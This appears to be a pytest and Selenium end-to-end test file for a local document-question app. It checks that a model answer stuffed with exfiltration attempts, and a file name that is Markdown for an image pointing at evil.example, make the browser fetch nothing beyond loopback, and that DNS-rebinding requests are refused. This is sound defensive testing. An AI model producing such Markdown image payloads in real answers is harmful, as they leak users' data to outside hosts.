"""The real page in headless Chromium, served on loopback as ``make run`` serves it.

Two paths: the real models (upload a PDF, ask about it, see the cited page), and
the scripted model writing an answer that tries every way of making the page
load an address, while Chromium's network log shows what the page requested:
nothing may leave 127.0.0.1. Needs ``chromium`` and ``chromedriver`` (``make
deps`` installs them); without them the tests fail and say so, never skip.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import websocket
from selenium import webdriver
from selenium.common.exceptions import StaleElementReferenceException, TimeoutException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.remote.webdriver import WebDriver
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support import expected_conditions as ec
from selenium.webdriver.support.ui import WebDriverWait

from tests.app.test_markdown import hostile_answer
from tests.conftest import APP_TOKEN
from tests.processes import LOOPBACK, free_port, stop_process

ROOT = Path(__file__).resolve().parents[2]
DOCS = ROOT / "tests" / "data" / "docs"
MANUAL = DOCS / "manual.pdf"
SCREENSHOT = ROOT / "artifacts" / "e2e-answer.png"
QUESTION = "What is the core temperature of the Zorblax reactor?"
START_TIMEOUT = 90
INDEX_TIMEOUT = 240
ANSWER_TIMEOUT = 300
FAKES = {
    "GPT4ALL_RAG_EMBEDDING_BACKEND": "hash",
    "GPT4ALL_RAG_LLM_BACKEND": "scripted",
}
HOSTILE_NAME = "x.![](http:evil.example?q=name).md"

pytestmark = pytest.mark.slow
Condition = Callable[[WebDriver], object]


def wait_for_health(url: str, server: subprocess.Popen[bytes], log: Path) -> None:
    deadline = time.monotonic() + START_TIMEOUT
    while time.monotonic() < deadline:
        if server.poll() is not None:
            pytest.fail(f"streamlit exited with {server.returncode}:\n{log.read_text()}")
        try:
            with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2) as response:
                if response.status == 200:
                    return
        except OSError:
            time.sleep(0.5)
    pytest.fail(f"streamlit did not answer on {url} within {START_TIMEOUT} s:\n{log.read_text()}")


def opened(url: str) -> str:
    """The app's launch link: its address with the secret the test launched it with."""
    return f"{url}/?token={APP_TOKEN}"


class Apps:
    """``python -m gpt4all_rag.app_launch`` (``make app``) on free loopback ports.

    Started with ``GPT4ALL_RAG_APP_TOKEN=APP_TOKEN``; ``opened(url)`` is its link.
    """

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.servers: list[tuple[subprocess.Popen[bytes], Path]] = []

    def start(self, environment: dict[str, str]) -> str:
        """Start the page on the tmp folders, with ``environment`` added; return its URL."""
        port = free_port()
        (self.folder / "docs").mkdir(exist_ok=True)
        env = {
            **os.environ,
            "GPT4ALL_RAG_DOCUMENTS_DIR": str(self.folder / "docs"),
            "GPT4ALL_RAG_INDEX_DIR": str(self.folder / "index"),
            "GPT4ALL_RAG_APP_TOKEN": APP_TOKEN,
            **environment,
        }
        env.pop("GPT4ALL_RAG_MODEL_PATH", None)
        log = self.folder / f"streamlit-{port}.log"
        command = [sys.executable, "-m", "gpt4all_rag.app_launch", "--port", str(port)]
        with log.open("wb") as out:
            server = subprocess.Popen(
                command, cwd=ROOT, env=env, stdout=out, stderr=subprocess.STDOUT
            )
        self.servers.append((server, log))
        url = f"http://{LOOPBACK}:{port}"
        wait_for_health(url, server, log)
        return url

    def serving(self, condition: Condition) -> Condition:
        """``condition``, failing at once (with the server's log) if a server has died."""

        def check(driver: WebDriver) -> object:
            for server, log in self.servers:
                if server.poll() is not None:
                    tail = log.read_text(errors="replace")[-6000:]
                    pytest.fail(f"streamlit exited with {server.returncode}:\n{tail}")
            return condition(driver)

        return check

    def stop(self) -> None:
        for server, _ in self.servers:
            stop_process(server, timeout=15)


@pytest.fixture
def apps(tmp_path: Path) -> Iterator[Apps]:
    started = Apps(tmp_path)
    try:
        yield started
    finally:
        started.stop()


def find_program(*names: str) -> str:
    for name in names:
        found = shutil.which(name)
        if found:
            return found
    pytest.fail(
        f"{' or '.join(names)} not found: the browser test needs Chromium and its driver "
        "(make deps; or on Debian/Ubuntu: apt-get install chromium chromium-driver)"
    )


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[WebDriver]:
    """Headless Chromium from the system, with a throwaway profile and a network log."""
    options = webdriver.ChromeOptions()
    options.binary_location = find_program("chromium", "chromium-browser", "google-chrome")
    for flag in (
        "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
        "--disable-background-networking", "--disable-component-update", "--disable-sync",
        "--no-first-run", "--window-size=1440,1100", f"--user-data-dir={tmp_path / 'profile'}",
    ):  # fmt: skip
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"performance": "ALL"})
    driver = webdriver.Chrome(service=Service(find_program("chromedriver")), options=options)
    try:
        yield driver
    finally:
        driver.quit()


def requested_urls(driver: WebDriver) -> list[str]:
    """Every URL the page asked for since the last call (requests and WebSockets)."""
    urls: list[str] = []
    for entry in driver.get_log("performance"):
        message = json.loads(entry["message"])["message"]
        params = message.get("params", {})
        if message["method"] == "Network.requestWillBeSent":
            urls.append(params["request"]["url"])
        elif message["method"] == "Network.webSocketCreated":
            urls.append(params["url"])
    return urls


def off_loopback(urls: list[str]) -> list[str]:
    """The URLs that would leave this computer (data:, blob: and the browser's own never do)."""
    local_schemes = {"data", "blob", "about", "chrome", "chrome-untrusted", "devtools"}
    return [
        u
        for u in urls
        if urlsplit(u).scheme not in local_schemes and urlsplit(u).hostname != LOOPBACK
    ]


def sidebar_text(driver: WebDriver) -> str:
    return str(driver.find_element(By.CSS_SELECTOR, '[data-testid="stSidebar"]').text)


def source_summaries(driver: WebDriver) -> list[WebElement]:
    css = '[data-testid="stChatMessage"] [data-testid="stExpander"] summary'
    return list(driver.find_elements(By.CSS_SELECTOR, css))


def send_question(driver: WebDriver, question: str) -> None:
    box = WebDriverWait(driver, INDEX_TIMEOUT).until(
        ec.element_to_be_clickable((By.CSS_SELECTOR, '[data-testid="stChatInputTextArea"]'))
    )
    box.send_keys(question)
    box.send_keys(Keys.ENTER)


def chat_texts(driver: WebDriver) -> list[str]:
    css = '[data-testid="stChatMessageContent"]'
    return [m.text for m in driver.find_elements(By.CSS_SELECTOR, css)]


def test_upload_ask_and_see_the_cited_page(apps: Apps, browser: WebDriver) -> None:
    browser.get(opened(apps.start({})))
    wait = WebDriverWait(browser, INDEX_TIMEOUT)
    wait.until(apps.serving(lambda d: "Indexed (0)" in sidebar_text(d)))

    file_input = (By.CSS_SELECTOR, '[data-testid="stSidebar"] input[type="file"]')
    upload = wait.until(ec.presence_of_element_located(file_input))
    upload.send_keys(str(MANUAL))
    wait.until(apps.serving(lambda d: "manual.pdf\n3 chunks" in sidebar_text(d)))

    send_question(browser, QUESTION)
    answered = apps.serving(lambda d: len(source_summaries(d)) >= 1)
    WebDriverWait(browser, ANSWER_TIMEOUT).until(answered)

    labels = [s.text for s in source_summaries(browser)]
    assert "manual.pdf · page 2" in labels[0], labels
    messages = chat_texts(browser)
    assert messages[0] == QUESTION
    lines = messages[1].splitlines()
    assert lines[0] == "From your documents" and "451" in lines[1], messages[1]

    source_summaries(browser)[0].click()
    seen: list[str] = []

    def marked_words(driver: Any) -> list[str]:
        marks = driver.find_elements(By.CSS_SELECTOR, "mark")
        seen[:] = [m.text for m in marks if m.is_displayed()]
        return seen if "Zorblax" in seen else []

    # The expander opens over a few frames, and a rerun may redraw the marks between
    # finding them and reading them: wait for the whole passage, reading afresh.
    try:
        WebDriverWait(browser, 30, ignored_exceptions=[StaleElementReferenceException]).until(
            marked_words
        )
    except TimeoutException:
        pytest.fail(f"'Zorblax' is not marked in the passage; marked: {seen}")
    assert off_loopback(requested_urls(browser)) == []

    SCREENSHOT.parent.mkdir(exist_ok=True)
    assert browser.save_screenshot(str(SCREENSHOT))


def test_an_answer_full_of_exfiltration_attempts_requests_nothing_off_loopback(
    apps: Apps, browser: WebDriver, tmp_path: Path
) -> None:
    # Issue 10, item 1: the scripted model writes every variant at once; issue 10, item 9:
    # a document's name is Markdown for an image. The browser must fetch none of them.
    hostile = hostile_answer()
    (tmp_path / "docs").mkdir()
    shutil.copy(MANUAL, tmp_path / "docs" / "manual.pdf")
    (tmp_path / "docs" / HOSTILE_NAME).write_text("# Zorblax\n\nThe Zorblax core temperature.\n")
    url = apps.start({**FAKES, "GPT4ALL_RAG_SCRIPTED_REPLIES": json.dumps([hostile])})
    requested_urls(browser)  # what the browser did on its own before the page
    browser.get(opened(url))
    WebDriverWait(browser, INDEX_TIMEOUT).until(
        apps.serving(lambda d: "Indexed (2)" in sidebar_text(d))
    )
    requested = requested_urls(browser)

    send_question(browser, QUESTION)
    answered = apps.serving(lambda d: len(source_summaries(d)) >= 2)
    WebDriverWait(browser, ANSWER_TIMEOUT).until(answered)
    open_every_source(browser)  # the passages, shown
    time.sleep(2)  # what the page would load, it loads now
    requested += requested_urls(browser)

    assert off_loopback(requested) == []
    assert any(urlsplit(u).scheme == "ws" for u in requested)  # the log does see the page
    answer = chat_texts(browser)[1]
    assert "SECRET" in answer and "evil.example" in answer  # shown as text
    # Nothing that would load or lead off this computer: images, links (a heading's
    # anchor to itself is fine).
    images = browser.find_elements(By.CSS_SELECTOR, "[data-testid='stChatMessage'] img")
    links = browser.find_elements(By.CSS_SELECTOR, "[data-testid='stChatMessage'] a[href]")
    # Page images of opened PDF sources are served by the app itself, on loopback.
    assert off_loopback([str(i.get_attribute("src")) for i in images]) == []
    assert off_loopback([str(a.get_attribute("href")) for a in links]) == []
    assert HOSTILE_NAME in sidebar_text(browser)


def open_every_source(browser: WebDriver) -> None:
    """Click each source open; opening one reruns the app, so each is found afresh."""
    for n in range(len(source_summaries(browser))):
        for _attempt in range(5):
            try:
                summaries = source_summaries(browser)
                if n < len(summaries):
                    browser.execute_script("arguments[0].click()", summaries[n])
                break
            except StaleElementReferenceException:
                time.sleep(0.5)  # the rerun replaced it: find it again


def test_the_app_refuses_other_host_names(apps: Apps) -> None:
    # Issue 10, item 4 (DNS rebinding): a page on evil.example whose name resolves to
    # 127.0.0.1 reaches the port, but its Host header is not ours.
    url = apps.start(FAKES).replace("http://", "ws://") + "/_stcore/stream"

    with pytest.raises(websocket.WebSocketBadStatusException) as refused:
        websocket.create_connection(url, host="evil.example", suppress_origin=True, timeout=10)
    for host in (f"localhost:{urlsplit(url).port}", f"{LOOPBACK}:{urlsplit(url).port}"):
        websocket.create_connection(url, host=host, suppress_origin=True, timeout=10).close()

    assert refused.value.status_code == 403
